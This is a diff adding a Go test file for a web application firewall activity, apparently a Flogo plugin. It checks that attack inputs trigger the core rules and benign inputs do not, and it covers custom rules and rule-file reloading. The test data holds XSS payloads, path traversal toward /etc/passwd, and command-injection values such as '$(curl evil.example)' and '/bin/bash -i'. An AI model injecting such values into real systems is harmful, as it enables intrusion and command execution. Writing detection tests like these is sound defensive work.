@@ -0,0 +1,358 @@
+package waf
+
+import (
+	"io/ioutil"
+	"os"
+	"path/filepath"
+	"testing"
+	"time"
+
+	"github.com/project-flogo/core/activity"
+	"github.com/project-flogo/core/data"
+	"github.com/project-flogo/core/data/mapper"
+	"github.com/project-flogo/core/data/metadata"
+	logger "github.com/project-flogo/core/support/log"
+	"github.com/project-flogo/core/support/trace"
+	"github.com/stretchr/testify/assert"
+)
+
+type initContext struct {
+	settings map[string]interface{}
+}
+
+func newInitContext(values map[string]interface{}) *initContext {
+	if values == nil {
+		values = make(map[string]interface{})
+	}
+	return &initContext{
+		settings: values,
+	}
+}
+
+func (i *initContext) Settings() map[string]interface{} {
+	return i.settings
+}
+
+func (i *initContext) MapperFactory() mapper.Factory {
+	return nil
+}
+
+func (i *initContext) Logger() logger.Logger {
+	return logger.RootLogger()
+}
+
+type activityContext struct {
+	input  map[string]interface{}
+	output map[string]interface{}
+}
+
+func newActivityContext(values map[string]interface{}) *activityContext {
+	if values == nil {
+		values = make(map[string]interface{})
+	}
+	return &activityContext{
+		input:  values,
+		output: make(map[string]interface{}),
+	}
+}
+
+func (a *activityContext) ActivityHost() activity.Host {
+	return a
+}
+
+func (a *activityContext) Name() string {
+	return "test"
+}
+
+func (a *activityContext) GetInput(name string) interface{} {
+	return a.input[name]
+}
+
+func (a *activityContext) SetOutput(name string, value interface{}) error {
+	a.output[name] = value
+	return nil
+}
+
+func (a *activityContext) GetInputObject(input data.StructValue) error {
+	return input.FromMap(a.input)
+}
+
+func (a *activityContext) SetOutputObject(output data.StructValue) error {
+	a.output = output.ToMap()
+	return nil
+}
+
+func (a *activityContext) GetSharedTempData() map[string]interface{} {
+	return nil
+}
+
+func (a *activityContext) ID() string {
+	return "test"
+}
+
+func (a *activityContext) IOMetadata() *metadata.IOMetadata {
+	return nil
+}
+
+func (a *activityContext) Reply(replyData map[string]interface{}, err error) {
+
+}
+
+func (a *activityContext) Return(returnData map[string]interface{}, err error) {
+
+}
+
+func (a *activityContext) Scope() data.Scope {
+	return nil
+}
+
+func (a *activityContext) Logger() logger.Logger {
+	return logger.RootLogger()
+}
+
+func (a *activityContext) GetTracingContext() trace.TracingContext {
+	return nil
+}
+
+func eval(t *testing.T, act activity.Activity, input map[string]interface{}) map[string]interface{} {
+	ctx := newActivityContext(input)
+	_, err := act.Eval(ctx)
+	assert.Nil(t, err)
+	return ctx.output
+}
+
+func matchedIDs(output map[string]interface{}) []string {
+	ids := make([]string, 0, 4)
+	for _, match := range output["matches"].([]interface{}) {
+		ids = append(ids, match.(map[string]interface{})["id"].(string))
+	}
+	return ids
+}
+
+func TestCoreRules(t *testing.T) {
+	act, err := New(newInitContext(nil))
+	assert.Nil(t, err)
+
+	attacks := []struct {
+		input map[string]interface{}
+		id    string
+	}{
+		{map[string]interface{}{"queryParams": map[string]string{"q": "<script>alert(1)</script>"}}, "941100"},
+		{map[string]interface{}{"queryParams": map[string]string{"q": "%3CScRiPt%3Ealert(1)"}}, "941100"},
+		{map[string]interface{}{"content": map[string]interface{}{"name": `<img src=x onerror=alert(1)>`}}, "941110"},
+		{map[string]interface{}{"headers": map[string]string{"referer": "javascript:alert(1)"}}, "941120"},
+		{map[string]interface{}{"content": `<iframe src="https://evil.example">`}, "941130"},
+		{map[string]interface{}{"path": "/files/..%2f..%2fsecret"}, "930100"},
+		{map[string]interface{}{"pathParams": map[string]string{"file": "../../secret"}}, "930110"},
+		{map[string]interface{}{"queryParams": map[string]string{"file": "%252e%252e%252fsecret"}}, "930100"},
+		{map[string]interface{}{"queryParams": map[string]string{"file": "/etc/passwd"}}, "930120"},
+		{map[string]interface{}{"queryParams": map[string]string{"host": "example.com; cat /etc/hosts"}}, "932100"},
+		{map[string]interface{}{"content": map[string]interface{}{"host": "example.com && whoami"}}, "932105"},
+		{map[string]interface{}{"content": map[string]interface{}{"host": "$(curl evil.example)"}}, "932105"},
+		{map[string]interface{}{"queryParams": map[string]string{"host": "x & cmd.exe /c dir"}}, "932110"},
+		{map[string]interface{}{"queryParams": map[string]string{"exec": "/bin/bash -i"}}, "932120"},
+	}
+	for _, attack := range attacks {
+		output := eval(t, act, attack.input)
+		assert.Contains(t, matchedIDs(output), attack.id, attack.input)
+		assert.NotZero(t, output["score"], attack.input)
+	}
+
+	benign := []map[string]interface{}{
+		{
+			"path":        "/pets/1",
+			"pathParams":  map[string]string{"petId": "1"},
+			"queryParams": map[string]string{"name": "sally", "one": "1", "sort": "name;asc"},
+			"headers": map[string]string{
+				"User-Agent": "Mozilla/5.0 (X11; Linux x86_64)",
+				"Cookie":     "session=abc; id=1",
+				"Accept":     "*/*",
+			},
+			"content": map[string]interface{}{
+				"name":        "sally",
+				"description": "A lovely dog. She likes walks, treats and the online store",
+				"path":        "pets/sally.png",
+				"tags":        []interface{}{"dog", "brown"},
+			},
+		},
+		{"content": "version 1.2.3 is released, see ./docs for details"},
+	}
+	for _, input := range benign {
+		output := eval(t, act, input)
+		assert.Equal(t, 0, output["score"], output["matches"])
+		assert.Equal(t, false, output["blocked"])
+		assert.Equal(t, "", output["message"])
+	}
+
+	// ordinary bodies which look like chained commands aren't blocked
+	for _, content := range []interface{}{
+		map[string]interface{}{"filter": "foo;id=3", "note": "a | cat"},
+		map[string]interface{}{"items": []interface{}{map[string]interface{}{"id": 1, "tags": "red|ls"}}},
+		"good night\nsleep well",
+		"first line\nls of the items; id 7",
+	} {
+		output := eval(t, act, map[string]interface{}{"content": content})
+		assert.Equal(t, false, output["blocked"], content)
+		assert.True(t, output["score"].(int) < DefaultThreshold, content)
+	}
+
+	output := eval(t, act, map[string]interface{}{
+		"content": map[string]interface{}{"comments": []interface{}{"nice", "<script>alert(1)</script>"}},
+	})
+	matches := output["matches"].([]interface{})
+	assert.Len(t, matches, 1)
+	assert.Equal(t, map[string]interface{}{
+		"id":       "941100",
+		"message":  "XSS: script tag",
+		"severity": "critical",
+		"score":    5,
+		"target":   "body:/comments/1",
+		"value":    "<script>alert(1)</script>",
+	}, matches[0])
+	assert.Equal(t, "rule 941100 matched body:/comments/1: XSS: script tag", output["message"])
+}
+
+func TestRules(t *testing.T) {
+	act, err := New(newInitContext(map[string]interface{}{
+		"coreRules":     false,
+		"threshold":     6,
+		"disabledRules": []interface{}{"100004"},
+		"rules": []interface{}{
+			map[string]interface{}{
+				"id":       "100001",
+				"message":  "Scanner user agent",
+				"targets":  []interface{}{"headers:user-agent"},
+				"operator": "phrases",
+				"values":   []interface{}{"sqlmap", "nikto"},
+				"severity": "warning",
+			},
+			map[string]interface{}{
+				"id":         "100002",
+				"message":    "Admin query parameter",
+				"targets":    []interface{}{"query"},
+				"operator":   "equals",
+				"value":      "admin",
+				"transforms": []interface{}{"lowercase"},
+				"severity":   "notice",
+			},
+			map[string]interface{}{
+				"id":       "100003",
+				"message":  "Large content length",
+				"targets":  []interface{}{"headers:Content-Length"},
+				"operator": "gt",
+				"value":    "1000",
+				"score":    10,
+			},
+			map[string]interface{}{
+				"id":       "100004",
+				"message":  "Disabled",
+				"targets":  []interface{}{"path"},
+				"operator": "beginsWith",
+				"value":    "/",
+			},
+			map[string]interface{}{
+				"id":       "100005",
+				"message":  "Unexpected pet id",
+				"targets":  []interface{}{"path:petId"},
+				"value":    `^\d+$`,
+				"negate":   true,
+				"severity": "error",
+			},
+		},
+	}))
+	assert.Nil(t, err)
+
+	output := eval(t, act, map[string]interface{}{
+		"path":        "/pets/1",
+		"pathParams":  map[string]string{"petId": "1"},
+		"headers":     map[string]string{"User-Agent": "sqlmap/1.4", "Content-Length": "10"},
+		"queryParams": map[string]string{"role": "Admin"},
+	})
+	assert.Equal(t, []string{"100001", "100002"}, matchedIDs(output))
+	assert.Equal(t, 5, output["score"])
+	assert.Equal(t, false, output["blocked"])
+
+	output = eval(t, act, map[string]interface{}{
+		"pathParams": map[string]string{"petId": "abc"},
+		"headers":    map[string]string{"content-length": "2000"},
+	})
+	assert.Equal(t, []string{"100003", "100005"}, matchedIDs(output))
+	assert.Equal(t, 14, output["score"])
+	assert.Equal(t, true, output["blocked"])
+
+	for _, rule := range []map[string]interface{}{
+		{"targets": []interface{}{"path"}, "value": "a"},
+		{"id": "1", "value": "a"},
+		{"id": "1", "targets": []interface{}{"cookies"}, "value": "a"},
+		{"id": "1", "targets": []interface{}{"path"}, "value": "("},
+		{"id": "1", "targets": []interface{}{"path"}, "operator": "like", "value": "a"},
+		{"id": "1", "targets": []interface{}{"path"}, "operator": "gt", "value": "a"},
+		{"id": "1", "targets": []interface{}{"path"}, "operator": "phrases"},
+		{"id": "1", "targets": []interface{}{"path"}, "value": "a", "severity": "fatal"},
+		{"id": "1", "targets": []interface{}{"path"}, "value": "a", "transforms": []interface{}{"base64"}},
+		{"id": "1", "targets": []interface{}{"path"}, "value": "a", "action": "deny"},
+	} {
+		_, err := New(newInitContext(map[string]interface{}{
+			"rules": []interface{}{rule},
+		}))
+		assert.NotNil(t, err, rule)
+	}
+	_, err = New(newInitContext(map[string]interface{}{
+		"rules": []interface{}{
+			map[string]interface{}{"id": "1", "targets": []interface{}{"path"}, "value": "a"},
+			map[string]interface{}{"id": "1", "targets": []interface{}{"path"}, "value": "b"},
+		},
+	}))
+	assert.NotNil(t, err)
+}
+
+func TestRulesFile(t *testing.T) {
+	dir, err := ioutil.TempDir("", "waf")
+	assert.Nil(t, err)
+	defer os.RemoveAll(dir)
+	file := filepath.Join(dir, "rules.json")
+	err = ioutil.WriteFile(file, []byte(`{"rules": [
+		{"id": "200001", "message": "Debug parameter", "targets": ["query:debug"], "operator": "equals", "value": "true"}
+	]}`), 0644)
+	assert.Nil(t, err)
+
+	act, err := New(newInitContext(map[string]interface{}{
+		"rulesFile": file,
+	}))
+	assert.Nil(t, err)
+	output := eval(t, act, map[string]interface{}{
+		"queryParams": map[string]string{"debug": "true", "q": "<script>"},
+	})
+	assert.Equal(t, []string{"941100", "200001"}, matchedIDs(output))
+	assert.Equal(t, 10, output["score"])
+
+	err = ioutil.WriteFile(file, []byte(`[
+		{"id": "200002", "message": "Debug header", "targets": ["headers:X-Debug"], "operator": "contains", "value": "1"}
+	]`), 0644)
+	assert.Nil(t, err)
+	modified := time.Now().Add(time.Minute)
+	assert.Nil(t, os.Chtimes(file, modified, modified))
+	rules := act.(*Activity).file
+	rules.Reload()
+	output = eval(t, act, map[string]interface{}{
+		"queryParams": map[string]string{"debug": "true"},
+		"headers":     map[string]string{"X-Debug": "1"},
+	})
+	assert.Equal(t, []string{"200002"}, matchedIDs(output))
+
+	// an invalid file keeps the current rules
+	err = ioutil.WriteFile(file, []byte(`[{"id": "200003"}]`), 0644)
+	assert.Nil(t, err)
+	modified = modified.Add(time.Minute)
+	assert.Nil(t, os.Chtimes(file, modified, modified))
+	rules.Reload()
+	output = eval(t, act, map[string]interface{}{
+		"headers": map[string]string{"X-Debug": "1"},
+	})
+	assert.Equal(t, []string{"200002"}, matchedIDs(output))
+
+	_, err = New(newInitContext(map[string]interface{}{
+		"rulesFile": filepath.Join(dir, "missing.json"),
+	}))
+	assert.NotNil(t, err)
+}